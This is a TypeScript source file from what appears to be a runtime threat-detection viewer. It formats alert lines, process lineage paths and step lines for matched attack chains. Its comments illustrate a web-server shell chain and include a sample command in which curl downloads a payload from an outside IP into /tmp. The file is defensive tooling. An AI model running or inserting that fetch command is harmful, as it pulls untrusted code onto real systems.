import type { ChainMatchRow, ChainStepRow, PathItem } from '../data/types.js';
import { oneLine } from './text.js';
import type { TimeText } from './times.js';

const CHAIN_NAME = 28;

/** `2024-11-28T13:20:17.425800000Z  Critical  Web service shell fetches…  node-1/3f9a1c0e2b7d  payload run from …` (time of the last step). */
export function chainLine(m: ChainMatchRow, time: TimeText): string {
  const name = oneLine(m.chain);
  const chain = name.length > CHAIN_NAME ? `${name.slice(0, CHAIN_NAME - 1)}…` : name.padEnd(CHAIN_NAME);
  const where = `${oneLine(m.hostname ?? '?')}/${oneLine(m.containerId ?? 'host')}`;
  return `${time(m.endNs)}  ${m.priority.padEnd(9)} ${chain}  ${where}  ${oneLine(m.output)}`;
}

/**
 * `nginx,2351 → sh,4001 → … 40 more … → curl,4002`; an exec the case lacks shows its id. A process
 * shows once when it passed through several images of the same name (as the CLI prints paths).
 */
export function pathText(path: PathItem[]): string {
  const labels = path.map((p) => (p.kind === 'gap' ? `… ${p.omitted} more …` : p.pid === null ? `exec ${p.execId}?` : `${oneLine(p.name ?? '?')},${p.pid}`));
  return labels.filter((l, i) => i === 0 || l !== labels[i - 1]).join(' → ');
}

/** One line of the steps pane; both lines of a step carry its index. */
export interface StepLine {
  text: string;
  step: number;
}

/**
 *   › fetch  2024-11-28T13:20:15.017000000Z  exec 12  curl,4002  curl -s -o /tmp/x http://203.0.113.7/x
 *       descendant_of shell: sh,4001 → curl,4002
 */
export function stepLines(steps: ChainStepRow[], selected: number, time: TimeText): StepLine[] {
  const width = Math.max(0, ...steps.map((s) => oneLine(s.step).length));
  const nameOf = (index: number | null): string => oneLine(steps.find((s) => s.stepIndex === index)?.step ?? `step ${index}`);
  return steps.flatMap((s, i) => {
    const proc = s.pid === null ? '(exec not in the case)' : `${oneLine(s.name ?? '?')},${s.pid}  ${oneLine(s.cmdline ?? '')}`;
    const link = s.relation === null ? '' : `${oneLine(s.relation)} ${nameOf(s.linkedStep)}: `;
    const path = s.path.length > 0 ? pathText(s.path) : s.linkedStep === null ? '(first step)' : '(no lineage path)';
    return [
      { text: `${i === selected ? '›' : ' '} ${oneLine(s.step).padEnd(width)}  ${time(s.tsNs)}  exec ${s.execId}  ${proc}`, step: i },
      { text: `    ${link}${path}`, step: i },
    ];
  });
}
